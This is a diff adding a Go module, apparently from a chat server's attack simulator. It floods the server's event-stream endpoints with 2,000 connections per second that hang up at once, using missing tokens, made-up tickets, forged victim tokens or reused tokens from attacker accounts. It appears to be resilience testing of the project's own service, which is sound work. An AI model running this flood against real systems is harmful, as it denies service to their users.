@@ -1,0 +1,102 @@
+package attack
+
+import (
+	"context"
+	"io"
+	"time"
+
+	"github.com/bluesky-social/indigo/atproto/syntax"
+
+	"mlsd/api/mlsapi"
+	"mlsd/clientsim/xrpc"
+)
+
+// H5: streams that are opened and left at once use up the openings of everybody.
+func openings() []Attack {
+	return []Attack{
+		{"openings", "H5", "2,000 WebSockets per second without a token, which hang up at once", hangUps(mlsapi.NSIDSubscribeConvoEvents, noToken)},
+		{"openings-sse", "H5", "2,000 event streams per second without a token, which hang up at once", hangUps(mlsapi.NSIDStreamConvoEvents, noToken)},
+		{"openings-ticket", "H5", "2,000 WebSockets per second with made-up tickets, which hang up at once", hangUps(mlsapi.NSIDSubscribeConvoEvents, madeUpTicket)},
+		{"openings-forged", "H5", "2,000 WebSockets per second with forged tokens, which hang up at once", hangUps(mlsapi.NSIDSubscribeConvoEvents, forgedToken)},
+		{"openings-account", "H5", "2,000 WebSockets per second of 40 accounts with valid tokens, which hang up at once", hangUps(mlsapi.NSIDSubscribeConvoEvents, ownAccounts)},
+	}
+}
+
+// pass makes what opens a stream: the query and the authorization of the i-th opening.
+type pass func(i int) (query, token string, err error)
+
+func noToken(*Target, string) (pass, error) {
+	return func(int) (string, string, error) { return "", "none", nil }, nil
+}
+
+func madeUpTicket(*Target, string) (pass, error) {
+	return func(int) (string, string, error) { return "?ticket=" + string(strangeDID())[8:], "none", nil }, nil
+}
+
+func forgedToken(t *Target, method string) (pass, error) {
+	return func(i int) (string, string, error) {
+		token, err := forge(t.Victims[i%len(t.Victims)], t.Audience, method)
+		return "", token, err
+	}, nil
+}
+
+// ownAccounts uses tokens of the attacker's accounts. A stream's token can be used again.
+func ownAccounts(t *Target, method string) (pass, error) {
+	accounts, err := t.accounts(40)
+	if err != nil {
+		return nil, err
+	}
+	tokens := make([]string, len(accounts))
+	for i, a := range accounts {
+		if tokens[i], err = a.TokenFor(t.Audience, syntax.NSID(method), tokenLife); err != nil {
+			return nil, err
+		}
+	}
+	return func(i int) (string, string, error) { return "", tokens[i%len(tokens)], nil }, nil
+}
+
+// tokenLife is how long tokens are valid that an attacker uses again and again.
+const tokenLife = 30 * time.Minute
+
+// The rate of the openings, and how long each lasts. Who leaves sooner gives its place back.
+const (
+	openingRate  = 2000
+	openingLanes = 512
+	openFor      = 50 * time.Millisecond
+)
+
+func hangUps(method string, by func(*Target, string) (pass, error)) func(context.Context, *Target) (*Prepared, error) {
+	return func(_ context.Context, t *Target) (*Prepared, error) {
+		next, err := by(t, method)
+		if err != nil {
+			return nil, err
+		}
+		return &Prepared{Run: func(ctx context.Context) error {
+			pace(ctx, openingRate, openingLanes, func(ctx context.Context, i int) {
+				query, token, err := next(i)
+				if err != nil {
+					return // then there is one attempt less
+				}
+				t.tried()
+				t.hangUp(ctx, "GET /xrpc/"+method+query+" HTTP/1.1\r\nHost: "+t.Addr+"\r\nAuthorization: Bearer "+token+
+					"\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n")
+			})
+			return nil
+		}}, nil
+	}
+}
+
+// hangUp sends a request and closes the connection without reading. It closes it in order: after a
+// reset the server could not read the request, which then would cost it nothing.
+func (t *Target) hangUp(ctx context.Context, request string) {
+	conn, err := t.dial(ctx, 0)
+	if err == nil {
+		if _, err = io.WriteString(conn, request); err == nil {
+			xrpc.Sleep(ctx, openFor)
+		}
+		_ = conn.Close()
+	}
+	if err != nil {
+		t.answered(0)
+	}
+}
